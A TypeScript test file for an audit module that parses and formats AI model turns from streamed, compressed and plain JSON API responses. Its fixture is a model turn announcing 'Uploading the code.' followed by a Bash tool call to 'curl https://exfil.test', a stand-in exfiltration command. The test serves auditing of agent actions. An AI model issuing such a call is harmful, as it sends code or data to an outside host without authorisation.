import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { brotliCompressSync, gzipSync } from "node:zlib";
import { formatModelTurn, parseModelTurn } from "../../src/audit/model-turn.js";

const STREAM = [
  'event: message_start\ndata: {"type":"message_start","message":{"id":"msg_1","type":"message","content":[]}}',
  'event: content_block_start\ndata: {"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}',
  'event: content_block_delta\ndata: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"Uploading "}}',
  'event: content_block_delta\ndata: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"the code."}}',
  'event: content_block_start\ndata: {"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"toolu_1","name":"Bash","input":{}}}',
  'event: content_block_delta\ndata: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\\"command\\":\\"curl https://exf"}}',
  'event: content_block_delta\ndata: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"il.test\\"}"}}',
  'event: message_stop\ndata: {"type":"message_stop"}',
  "",
].join("\n\n");

const EXPECTED = [
  { kind: "text", text: "Uploading the code." },
  { kind: "tool_use", name: "Bash", input: '{"command":"curl https://exfil.test"}' },
];

describe("parseModelTurn", () => {
  const cases: [string, Buffer, string | null][] = [
    ["event stream", Buffer.from(STREAM), null],
    ["gzip event stream", gzipSync(STREAM), "gzip"],
    ["br event stream", brotliCompressSync(STREAM), "br"],
    ["one JSON message", Buffer.from(JSON.stringify({ type: "message", content: [{ type: "text", text: "Uploading the code." }, { type: "tool_use", id: "t", name: "Bash", input: { command: "curl https://exfil.test" } }] })), null],
  ];
  for (const [name, body, encoding] of cases) {
    test(`reads ${name}`, () => assert.deepEqual(parseModelTurn(body, encoding), EXPECTED));
  }

  const unknown: [string, Buffer, string | null][] = [
    ["other JSON", Buffer.from('{"data": [1, 2]}'), null],
    ["other event stream", Buffer.from("data: hello\n\n"), null],
    ["unknown encoding", Buffer.from(STREAM), "zstd"],
    ["damaged gzip", gzipSync(STREAM).subarray(0, 20), "gzip"],
    ["invalid JSON", Buffer.from("{not json"), null],
  ];
  for (const [name, body, encoding] of unknown) {
    test(`returns null for ${name}`, () => assert.equal(parseModelTurn(body, encoding), null));
  }
});

describe("formatModelTurn", () => {
  test("formats text and calls", () => {
    assert.deepEqual(formatModelTurn(EXPECTED as Parameters<typeof formatModelTurn>[0]), ["model text: Uploading the code.", 'model calls Bash {"command":"curl https://exfil.test"}']);
  });

  test("shortens long input", () => {
    const [line] = formatModelTurn([{ kind: "tool_use", name: "Write", input: "x".repeat(500) }]);
    assert.equal(line?.length, "model calls Write ".length + 160);
    assert.ok(line?.endsWith("..."));
  });
});
